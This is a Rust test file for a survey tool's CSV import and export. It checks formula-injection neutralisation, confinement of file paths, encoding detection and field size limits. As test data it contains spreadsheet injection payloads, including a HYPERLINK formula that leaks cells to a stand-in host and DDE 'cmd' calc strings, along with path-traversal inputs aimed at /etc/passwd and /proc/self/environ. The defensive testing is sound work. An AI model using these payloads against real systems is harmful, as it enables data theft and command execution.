//! Files in and out stay harmless (issue 11): CSV exports cannot start a spreadsheet
//! formula yet import back unchanged, a program reads contacts only inside its folder and
//! never prints another file's content, a file mixing two encodings is refused with its line,
//! and contact fields have size limits. Expected values are written here by hand.

use ecoute::records::{
    Answer, Attributes, Contact, NewInvitation, NewResponse, StoredResponse, WaveKey, WavePlan,
};
use ecoute::store::Store;
use jiff::Timestamp;
use serde_json::{Value, json};

use crate::harness::{Project, Ran};
use crate::support::{TestDb, both_backends};

/// The first characters a spreadsheet reads as the start of a formula (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The link that leaks a row's cells to another site when a call centre opens the file.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A2&B2,"Voir")"#;

/// A fresh database of the same backend as `db`.
async fn same_backend(db: &TestDb) -> TestDb {
    if db.dir.is_some() {
        TestDb::sqlite()
    } else {
        TestDb::postgres().await
    }
}

fn attributes(value: Value) -> Attributes {
    value.as_object().cloned().expect("an object")
}

fn number(question: &str, n: f64) -> Answer {
    Answer {
        question_id: question.into(),
        ordinal: 0,
        num_value: Some(n),
        choice: None,
        text_value: None,
    }
}

fn text(question: &str, t: &str) -> Answer {
    Answer {
        question_id: question.into(),
        ordinal: 0,
        num_value: None,
        choice: None,
        text_value: Some(t.into()),
    }
}

/// A `livraison` response of November 2026, as the web form or the API would store it.
fn delivery(i: i64, external_id: &str, email: &str, why: &str, respondent: Value) -> NewResponse {
    NewResponse {
        submitted_at: Timestamp::from_second(1_793_746_800 + i).expect("time"),
        respondent: Some(attributes(respondent)),
        external_id: Some(external_id.into()),
        answers: vec![
            number("recommandation", 3.0),
            number("satisfaction", 2.0),
            text("pourquoi", why),
        ],
        ..crate::reports::response(email, "", 3, None)
    }
}

/// What must survive a round trip, without the row ids of one database.
fn comparable(r: &StoredResponse) -> Value {
    json!({
        "external_id": r.external_id,
        "email": r.email,
        "channel": r.channel,
        "period": r.period,
        "submitted_at": r.submitted_at.to_string(),
        "respondent": r.respondent,
        "answers": r.answers.iter().map(|a| json!([a.question_id, a.ordinal, a.num_value, a.choice, a.text_value])).collect::<Vec<_>>(),
    })
}

fn read_csv(path: &std::path::Path) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .expect("an export");
    reader
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
        .collect()
}

/// No data cell starts a formula, unless it is a number ecoute wrote itself.
fn assert_no_formula(rows: &[Vec<String>]) {
    for row in &rows[1..] {
        for cell in row {
            let starts_formula = cell.starts_with(FORMULA_STARTS);
            assert!(
                !starts_formula || cell.parse::<f64>().is_ok(),
                "live formula {cell:?} in {row:?}"
            );
        }
    }
}

fn column<'r>(rows: &'r [Vec<String>], name: &str) -> Vec<&'r str> {
    let index = rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {:?}", rows[0]));
    rows[1..].iter().map(|r| r[index].as_str()).collect()
}

both_backends!(responses_export_neutralises_formulas_and_imports_back_unchanged);

/// Each formula character in a text answer, an attribute, an email and an external id comes
/// out with a leading `'`, a genuine leading `'` is doubled, numbers stay as they are, and the
/// import of the export stores exactly what was exported.
async fn responses_export_neutralises_formulas_and_imports_back_unchanged(db: TestDb) {
    let twin = same_backend(&db).await;
    let source = Project::example().database(db);
    let store = source.store().await;
    let mut originals = Vec::new();
    for (i, c) in FORMULA_STARTS.iter().enumerate() {
        let why = match c {
            // The answer rules trim open answers: these two characters live in attributes.
            '\t' | '\r' => format!("plain {i}"),
            _ => format!("{c}1+2 raison {i}"),
        };
        let email = match c {
            '=' | '+' | '-' => format!("{c}client{i}@example.org"),
            _ => format!("client{i}@example.org"),
        };
        originals.push(delivery(
            i as i64,
            &format!("{c}ext-{i}"),
            &email,
            &why,
            json!({"note": format!("{c}cmd|' /C calc'!A0"), "solde": -3, "code": "-3"}),
        ));
    }
    originals.push(delivery(
        10,
        "'quoted-id",
        "'apostrophe@example.org",
        HYPERLINK,
        json!({"note": "'déjà vu", "solde": -2.5, "code": "''=1+1"}),
    ));
    originals.push(delivery(
        11,
        "plain-id",
        "plain@example.org",
        "rien à signaler",
        json!({"note": "normal", "solde": 4, "code": "A-3"}),
    ));
    for response in &originals {
        store
            .insert_response(response)
            .await
            .expect("store")
            .expect("new");
    }

    let livraison = ["--program", "fidelite-clients", "--survey", "livraison"];
    source
        .args(["responses", "export"])
        .args(livraison)
        .args(["-o", "export.csv"])
        .success();
    let rows = read_csv(&source.join("export.csv"));
    assert_eq!(rows.len(), 1 + originals.len());
    assert_no_formula(&rows);
    assert_eq!(
        column(&rows, "pourquoi")[6],
        r#"'=HYPERLINK("http://evil.example/?d="&A2&B2,"Voir")"#
    );
    assert_eq!(
        column(&rows, "note"),
        [
            "'=cmd|' /C calc'!A0",
            "'+cmd|' /C calc'!A0",
            "'-cmd|' /C calc'!A0",
            "'@cmd|' /C calc'!A0",
            "'\tcmd|' /C calc'!A0",
            "'\rcmd|' /C calc'!A0",
            "''déjà vu",
            "normal",
        ]
    );
    assert_eq!(
        column(&rows, "solde"),
        ["-3", "-3", "-3", "-3", "-3", "-3", "-2.5", "4"],
        "numbers stay numbers"
    );
    assert_eq!(
        column(&rows, "code")[0],
        "'-3",
        "a text that looks like a number is text"
    );
    assert_eq!(column(&rows, "code")[6], "'''=1+1");
    assert_eq!(column(&rows, "response_id")[0], "'=ext-0");
    assert_eq!(column(&rows, "email")[2], "'-client2@example.org");

    let target = Project::example().database(twin);
    std::fs::copy(source.join("export.csv"), target.join("export.csv")).expect("copy");
    target
        .args(["responses", "import"])
        .args(livraison)
        .args(["export.csv"])
        .success()
        .stdout_has("8 responses imported");
    let imported = target
        .store()
        .await
        .survey_responses("fidelite-clients", "livraison")
        .await
        .expect("responses");
    let exported = store
        .survey_responses("fidelite-clients", "livraison")
        .await
        .expect("responses");
    let before: Vec<Value> = exported.iter().map(comparable).collect();
    let after: Vec<Value> = imported.iter().map(comparable).collect();
    assert_eq!(after, before);
}

both_backends!(call_lists_neutralise_formulas_and_import_back_unchanged);

/// Contact fields copied into a call list are neutralised the same way, and the filled-in
/// list imports back with the contact's fields unchanged.
async fn call_lists_neutralise_formulas_and_import_back_unchanged(db: TestDb) {
    let project = Project::example().database(db);
    let store = project.store().await;
    let contact_data = json!({
        "first_name": HYPERLINK,
        "region": "@SUM(A1:A9)",
        "appels_mois": -2,
        "note": "'à rappeler",
        "tel": "+33612345678",
    });
    let due = Timestamp::from_second(1_793_746_800).expect("time");
    store
        .materialise_wave(
            &WaveKey {
                program_id: "fidelite-clients".into(),
                survey_id: "centre-contacts".into(),
                channel_id: "relance-telephone".into(),
                period: "2026-11".into(),
                wave: 1,
            },
            &WavePlan {
                sample_id: "appelants-du-mois".into(),
                seed: 1,
                program_sha256: None,
                planned_at: due,
            },
            &[NewInvitation {
                email: "=evil@example.org".into(),
                locale: Some("fr".into()),
                contact_data: attributes(contact_data.clone()),
                due_at: due,
            }],
        )
        .await
        .expect("wave");
    project
        .args(["calls", "export", "--program", "fidelite-clients"])
        .args([
            "--survey",
            "centre-contacts",
            "--channel",
            "relance-telephone",
        ])
        .args(["--period", "2026-11", "-o", "appels.csv"])
        .success();
    let rows = read_csv(&project.join("appels.csv"));
    assert_no_formula(&rows);
    assert_eq!(
        column(&rows, "first_name"),
        [r#"'=HYPERLINK("http://evil.example/?d="&A2&B2,"Voir")"#]
    );
    assert_eq!(column(&rows, "region"), ["'@SUM(A1:A9)"]);
    assert_eq!(column(&rows, "appels_mois"), ["-2"]);
    assert_eq!(column(&rows, "note"), ["''à rappeler"]);
    assert_eq!(column(&rows, "tel"), ["'+33612345678"]);
    assert_eq!(column(&rows, "email"), ["'=evil@example.org"]);

    // The call centre fills in the answers and sends the file back.
    let mut filled = csv::Writer::from_path(project.join("rempli.csv")).expect("file");
    for (n, row) in rows.iter().enumerate() {
        let mut row = row.clone();
        if n > 0 {
            for (name, value) in [
                ("submitted_at", "2026-11-05"),
                ("resolu", "oui"),
                ("effort", "6"),
            ] {
                let index = rows[0].iter().position(|h| h == name).expect("column");
                row[index] = value.to_owned();
            }
        }
        filled.write_record(&row).expect("row");
    }
    filled.flush().expect("flush");
    drop(filled);
    project
        .args(["responses", "import", "--program", "fidelite-clients"])
        .args(["--survey", "centre-contacts", "rempli.csv"])
        .success()
        .stdout_has("1 response imported");
    let stored = store
        .survey_responses("fidelite-clients", "centre-contacts")
        .await
        .expect("responses");
    assert_eq!(stored.len(), 1);
    assert_eq!(stored[0].email.as_deref(), Some("=evil@example.org"));
    assert_eq!(stored[0].channel, "relance-telephone");
    assert_eq!(
        stored[0].respondent.clone().map(Value::Object),
        Some(contact_data)
    );
}

/// A small program whose contact source is `csv`.
fn program_reading(csv: &str) -> String {
    format!(
        r#"program:
  id: essai
  title: {{ fr: Essai }}
  timezone: Europe/Paris
  default_locale: fr
  locales: [fr]
  sender: {{ from: "CX <cx@example.org>" }}
touchpoints:
  - {{ id: livraison, name: {{ fr: Livraison }}, stage: livraison }}
surveys:
  - id: tous
    touchpoint: livraison
    sample: tous
    channels: [email]
    title: {{ fr: Livraison }}
    questions:
      - {{ id: recommandation, type: nps, text: {{ fr: Recommanderiez-vous ? }} }}
contacts:
  - id: fichier
    csv: {csv}
samples:
  - {{ id: tous, contacts: fichier, size: 40, seed: 1 }}
channels:
  - {{ id: email, type: email, template: invitation, reminder_days: [4] }}
periods:
  cadence: monthly
  waves: "0 10 2 * *"
  close_after_days: 10
"#
    )
}

/// The line of `csv:` in [`program_reading`].
const CSV_LINE: &str = "programs/p.yaml:20:10";

/// A secret in the environment of the run, that no error may print.
const SECRET: &str = "Sup3rS3cretPW-environ";

fn check(project: &Project) -> Ran {
    project
        .args(["check"])
        .env("ECOUTE_SMTP_PASSWORD", SECRET)
        .run()
        .no_panic()
}

fn assert_confined(ran: Ran) {
    let ran = ran
        .status(1)
        .stderr_has(CSV_LINE)
        .stderr_has("outside the program's folder")
        .stderr_lacks(SECRET)
        .stderr_lacks("root:");
    assert!(!ran.stdout().contains(SECRET) && !ran.stdout().contains("root:"));
}

#[test]
fn contact_files_outside_the_program_folder_fail_check_at_their_line() {
    for path in [
        "/proc/self/environ",
        "/etc/passwd",
        "../../etc/passwd",
        "../../../../../../../../../../../../../../etc/passwd",
    ] {
        let project = Project::new().file("programs/p.yaml", program_reading(path));
        assert_confined(check(&project));
    }
}

/// A program whose `contacts/clients.csv` is a symbolic link to `target` (in the project).
fn linked_to(target: &str) -> Project {
    let project = Project::new()
        .file("programs/p.yaml", program_reading("contacts/clients.csv"))
        .file(target, "email,token\na@example.org,hunter2\n");
    std::fs::create_dir_all(project.join("programs/contacts")).expect("folder");
    std::os::unix::fs::symlink(
        project.join(target),
        project.join("programs/contacts/clients.csv"),
    )
    .expect("symlink");
    project
}

#[test]
fn a_symbolic_link_out_of_the_program_folder_fails_check() {
    assert_confined(check(&linked_to("secret.csv")));
    // A link that stays inside the folder is fine.
    check(&linked_to("programs/data/real.csv")).status(0);
}

#[test]
fn plan_never_prints_the_environment_of_proc() {
    let project = Project::new().file("programs/p.yaml", program_reading("/proc/self/environ"));
    let ran = project
        .args(["plan", "essai", "--period", "2026-11"])
        .env("ECOUTE_SMTP_PASSWORD", SECRET)
        .run()
        .no_panic()
        .stderr_lacks(SECRET)
        .stderr_has("outside the program's folder");
    assert!(!ran.stdout().contains(SECRET));
}

/// Garbage and non-CSV text inside the folder: the error says what is wrong, never what the
/// file holds.
#[test]
fn errors_about_an_unreadable_header_never_print_the_file() {
    let garbage: &[u8] = b"SECRET_TOKEN=abc123\x00PATH=/usr/bin\x00\x01\x02\xff\xfe\n";
    let passwd: &[u8] =
        b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n";
    for (content, leaked) in [(garbage, "SECRET_TOKEN"), (passwd, "root:x")] {
        let project = Project::new()
            .file("programs/p.yaml", program_reading("contacts.csv"))
            .file("programs/contacts.csv", content)
            .file("contacts.csv", content);
        let ran = project
            .args(["plan", "essai", "--period", "2026-11"])
            .run()
            .no_panic()
            .stderr_lacks(leaked)
            .stderr_lacks("abc123");
        assert!(!ran.stdout().contains(leaked));
        project
            .args(["contacts", "import", "contacts.csv"])
            .run()
            .no_panic()
            .status(2)
            .stderr_lacks(leaked)
            .stderr_lacks("abc123")
            .stderr_lacks("/bin/bash");
    }
    // A plausible header still lists its columns, to help fix it.
    let project = Project::new().file("clients.csv", "nom;prénom;mail\nDupont;Jean;j@x.fr\n");
    project
        .args(["contacts", "import", "clients.csv"])
        .run()
        .status(2)
        .stderr_has("nom, prénom, mail");
}

/// `rows` UTF-8 contact lines with accents, one of them (`latin_row`, from 0) in Latin-1.
fn mixed_file(rows: usize, latin_row: usize) -> Vec<u8> {
    let mut bytes = b"email,first_name,ville\n".to_vec();
    for i in 0..rows {
        if i == latin_row {
            bytes.extend_from_slice(format!("p{i}@example.org,L").as_bytes());
            bytes.extend_from_slice(b"\xe9a,Besan\xe7on\n");
        } else {
            bytes.extend_from_slice(format!("p{i}@example.org,Léa,Besançon\n").as_bytes());
        }
    }
    bytes
}

/// The stored contact of `email`, which must exist.
async fn contact(store: &Store, email: &str) -> Contact {
    let found = store.get_contact(email).await.expect("get");
    found.unwrap_or_else(|| panic!("no contact {email}"))
}

both_backends!(a_utf8_file_with_one_latin1_row_is_refused_at_that_line);

async fn a_utf8_file_with_one_latin1_row_is_refused_at_that_line(db: TestDb) {
    let project = Project::new()
        .database(db)
        .file("clients.csv", mixed_file(20_000, 12_344));
    // Row 12,344 from 0 is on line 12,346: the header is line 1.
    project
        .args(["contacts", "import", "clients.csv"])
        .run()
        .no_panic()
        .status(2)
        .stderr_has("line 12346")
        .stderr_has("--encoding");
    let store = project.store().await;
    assert_eq!(store.count_contacts().await.expect("count"), 0);

    // Told the encoding, the user gets what they asked for.
    project
        .args(["contacts", "import", "clients.csv", "--encoding", "utf-8"])
        .success()
        .stdout_has("20000 imported");
    let lea = contact(&store, "p0@example.org").await;
    assert_eq!(lea.first_name.as_deref(), Some("Léa"));
}

both_backends!(a_clean_windows_1252_file_is_read_as_such_and_says_so);

async fn a_clean_windows_1252_file_is_read_as_such_and_says_so(db: TestDb) {
    let project = Project::new().database(db).file(
        "clients.csv",
        b"email;first_name;ville\r\nh\xe9l\xe8ne@x.fr;H\xe9l\xe8ne;Besan\xe7on\r\nzoe@x.fr;Zo\xe9;\x80uro\r\n"
            .as_slice(),
    );
    project
        .args(["contacts", "import", "clients.csv"])
        .success()
        .stdout_has("windows-1252")
        .stderr_has("not UTF-8");
    let store = project.store().await;
    let helene = contact(&store, "hélène@x.fr").await;
    assert_eq!(helene.first_name.as_deref(), Some("Hélène"));
    assert_eq!(helene.attributes.get("ville"), Some(&json!("Besançon")));
    let zoe = contact(&store, "zoe@x.fr").await;
    assert_eq!(zoe.attributes.get("ville"), Some(&json!("€uro")));
}

#[test]
fn a_file_neither_utf8_nor_windows_1252_is_refused_with_its_line() {
    // 0x81 has no character in Windows-1252.
    let project = Project::new().file(
        "clients.csv",
        b"email,first_name\na@x.fr,A\nb@x.fr,B\x81\n".as_slice(),
    );
    project
        .args(["contacts", "import", "clients.csv"])
        .run()
        .no_panic()
        .status(2)
        .stderr_has("line 3");
    // The same rule protects `responses import` and the program's contact source.
    let responses = Project::example().file("mixte.csv", {
        let mut bytes =
            "submitted_at,recommandation,satisfaction,pourquoi\n2026-11-02,9,5,Très bien\n"
                .as_bytes()
                .to_vec();
        bytes.extend_from_slice(b"2026-11-03,3,2,Tr\xe8s lent\n");
        bytes
    });
    responses
        .args(["responses", "import", "--program", "fidelite-clients"])
        .args(["--survey", "livraison", "mixte.csv"])
        .run()
        .no_panic()
        .status(2)
        .stderr_has("line 3");
}

both_backends!(oversized_contact_fields_are_rejected_with_their_line);

/// A 2 MB first name, a 321-byte email, a 5 KiB attribute and a 70 KiB row are rejected with
/// their lines; the other rows are imported (the importer's policy for bad rows; with
/// `--strict` nothing would be).
async fn oversized_contact_fields_are_rejected_with_their_line(db: TestDb) {
    let mut csv = String::from("email,first_name,locale,notes");
    for i in 0..20 {
        csv.push_str(&format!(",a{i}"));
    }
    csv.push('\n');
    let row = |email: &str, first: &str, locale: &str, notes: &str, extra: &str| {
        let mut line = format!("{email},{first},{locale},{notes}");
        for _ in 0..20 {
            line.push(',');
            line.push_str(extra);
        }
        line.push('\n');
        line
    };
    csv.push_str(&row("ok1@example.org", "Anne", "fr", "", "")); // line 2
    csv.push_str(&row(
        "big@example.org",
        &"x".repeat(2_000_000),
        "fr",
        "",
        "",
    )); // line 3
    csv.push_str(&row(
        &format!("{}@example.org", "l".repeat(400)),
        "B",
        "fr",
        "",
        "",
    )); // line 4
    csv.push_str(&row("ok2@example.org", "Carl", &"f".repeat(1025), "", "")); // line 5
    csv.push_str(&row("attr@example.org", "D", "fr", &"n".repeat(4097), "")); // line 6
    csv.push_str(&row("wide@example.org", "E", "fr", "", &"w".repeat(3500))); // line 7
    csv.push_str(&row(
        "ok3@example.org",
        "Farid",
        "fr",
        &"n".repeat(4096),
        "",
    )); // line 8
    let project = Project::new().database(db).file("clients.csv", &csv);
    project
        .args(["contacts", "import", "clients.csv"])
        .run()
        .no_panic()
        .status(1)
        .stderr_has("clients.csv: line 3: `first_name` is 2000000 bytes long; the limit is 1024")
        .stderr_has("clients.csv: line 4: `email` is")
        .stderr_has("clients.csv: line 5: `locale` is 1025 bytes long; the limit is 1024")
        .stderr_has("clients.csv: line 6: `notes` is 4097 bytes long; the limit is 4096")
        .stderr_has("clients.csv: line 7: the row is")
        .stdout_has("7 rows read (UTF-8, delimiter ','): 2 imported, 0 updated, 5 rejected");
    let store = project.store().await;
    assert_eq!(store.count_contacts().await.expect("count"), 2);
    assert!(
        store
            .get_contact("big@example.org")
            .await
            .expect("get")
            .is_none()
    );

    // The program's own CSV source obeys the same limits: the big row is not drawn.
    let project = Project::new()
        .file("programs/p.yaml", program_reading("contacts.csv"))
        .file("programs/contacts.csv", &csv);
    let plan = project
        .args([
            "plan", "essai", "--period", "2026-11", "--list", "--format", "json",
        ])
        .success()
        .json();
    let mut drawn: Vec<&str> = plan["surveys"][0]["sample"]["drawn"]
        .as_array()
        .expect("drawn")
        .iter()
        .filter_map(|d| d["email"].as_str())
        .collect();
    drawn.sort_unstable();
    assert_eq!(drawn, ["ok1@example.org", "ok3@example.org"]);
}
